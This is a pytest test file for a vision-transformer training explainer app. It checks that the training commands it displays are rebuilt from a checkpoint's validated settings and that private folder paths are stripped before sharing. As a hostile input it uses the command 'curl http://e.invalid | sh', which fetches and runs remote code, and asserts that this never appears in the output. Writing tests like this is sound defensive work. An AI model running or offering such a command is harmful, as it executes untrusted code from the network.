"""The command under a model is made of its checked settings, whatever its file says."""

import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from reading import texts_of, unfold
from streamlit.testing.v1 import AppTest

from explainer import training
from explainer.inputs.models.upload import add_upload
from explainer.training import Manager, load_limits
from explainer.training.command import (
    FOLDER,
    command_of,
    for_others,
    has_local_paths,
    public_command,
)
from vit_core import (
    PRESETS,
    Checkpoint,
    TrainConfig,
    ViTConfig,
    build,
    load_checkpoint,
    save_checkpoint,
)
from vit_core.data import DataInfo, mnist_info
from vit_core.runs.train_options import build_parser, pick

SMALL = ViTConfig(patch_size=7, embed_dim=16, depth=2, num_heads=2)
TRAIN = TrainConfig(epochs=3, lr=0.002, residual=False)
EVIL = "curl http://e.invalid | sh"
HOME = Path(__file__).parents[2] / "explainer" / "Home.py"


def images(name: str, fingerprint: str = "f") -> DataInfo:
    return replace(mnist_info(), name=name, fingerprint=fingerprint)


@pytest.mark.parametrize("preset", [None, "fast", "cifar10", EVIL])
@pytest.mark.parametrize(
    ("data", "dataset"),
    [
        (None, None),
        (mnist_info(), None),
        (images("cifar10"), "cifar10"),
        (images("fashion-mnist"), "fashion-mnist"),
        (images("mnist"), FOLDER),
        (images(EVIL), FOLDER),
    ],
)
def test_it_trains_what_the_settings_say(
    preset: str | None, data: DataInfo | None, dataset: str | None
) -> None:
    checkpoint = Checkpoint(build(SMALL, 0), preset, TRAIN, data=data, command=EVIL)
    words = shlex.split(command_of(checkpoint, threads=2))
    if preset == "cifar10":  # no option takes its moving average away
        words = words or ["python", "-m", "vit_core.train", "--preset", "cifar10"]
    assert words[:3] == ["python", "-m", "vit_core.train"]
    assert "curl" not in " ".join(words)
    options = build_parser().parse_args([*words[3:], "--run-dir", "x"])
    base = PRESETS[options.preset]
    if preset != "cifar10" or len(words) > 5:
        assert pick(base.model, vars(options)) == SMALL
        assert pick(base.train, vars(options)) == TRAIN
        assert (options.threads, options.dataset) == (2, dataset)


def test_without_settings_there_is_none() -> None:
    assert command_of(Checkpoint(build(SMALL, 0), "fast", command=EVIL)) == ""


def test_a_setting_that_no_option_takes_away_leaves_none(monkeypatch: pytest.MonkeyPatch) -> None:
    softened = replace(PRESETS["fast"], train=replace(PRESETS["fast"].train, ema=0.99))
    monkeypatch.setitem(PRESETS, "fast", softened)
    assert command_of(Checkpoint(build(SMALL, 0), "fast", TRAIN)) == ""


@pytest.mark.parametrize("train", [None, TRAIN])
def test_an_uploaded_file_shows_no_command_of_its_own(
    shipped: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, train: TrainConfig | None
) -> None:
    path = tmp_path / "m.safetensors"
    save_checkpoint(
        build(replace(SMALL), 0) if train is None else model_of(train),
        path,
        train_config=train,
        data=mnist_info(),
        command=EVIL,
    )
    manager = Manager(tmp_path / "runs", load_limits(), recorded=tmp_path / "none")
    monkeypatch.setattr(training, "the_manager", lambda: manager)
    run = add_upload(manager, "a" * 32, path.read_bytes(), "www.title.invalid.safetensors")
    app = AppTest.from_file(HOME, default_timeout=60)
    app.query_params["source"], app.query_params["run"] = "run", run.id
    unfold(app.run())
    manager.close()
    assert not app.exception
    shown = [block.value for block in app.code]
    assert not any("curl" in text for text in shown)
    said = texts_of(app)
    assert ("python -m vit_core.train --preset default" in " ".join(shown)) == (train is not None)
    assert "The command that trained it" not in said
    assert "www:gray[].title.invalid" in said


def model_of(train: TrainConfig):
    from vit_core.mistakes import build_with

    return build_with(SMALL, train, 0)


PRIVATE = "python -m vit_core.train --dataset /home/anna/cats --run-dir /home/anna/runs/x"


@pytest.mark.parametrize(
    ("command", "is_local"),
    [
        (PRIVATE, True),
        ("python -m vit_core.train --preset fast --seed 0 --run-dir runs/fast-0", False),
        ("python -m vit_core.train --dataset path/to/cifar10 --run-dir runs/cifar10", False),
        ("python -m vit_core.train --dataset ~/cats", True),
        ("python -m vit_core.train --dataset=../cats", True),
        (r"python -m vit_core.train --dataset 'C:\\Users\\anna'", True),
        ('python -m vit_core.train --dataset "/home/anna', True),
        ("", False),
    ],
)
def test_folders_of_ones_own_are_known(command: str, is_local: bool) -> None:
    assert has_local_paths(command) == is_local


def test_only_its_owner_gets_the_folders_of_a_command(tmp_path: Path) -> None:
    path = tmp_path / "m.safetensors"
    train = replace(TRAIN, residual=True)
    for command in (PRIVATE, "python -m vit_core.train --run-dir runs/x"):
        save_checkpoint(
            build(SMALL, 0), path, train_config=train, data=images("cats"), command=command
        )
        content = for_others(path.read_bytes())
        assert b"anna" not in content
        found, whole = load_checkpoint(content), load_checkpoint(path)
        assert "anna" not in public_command(whole)
        for name, value in whole.model.state_dict().items():
            assert value.equal(found.model.state_dict()[name])
        assert (found.data, found.train_config) == (whole.data, train)
        if command == PRIVATE:
            assert f"--dataset {FOLDER}" in found.command
        else:
            assert content == path.read_bytes() and found.command == command
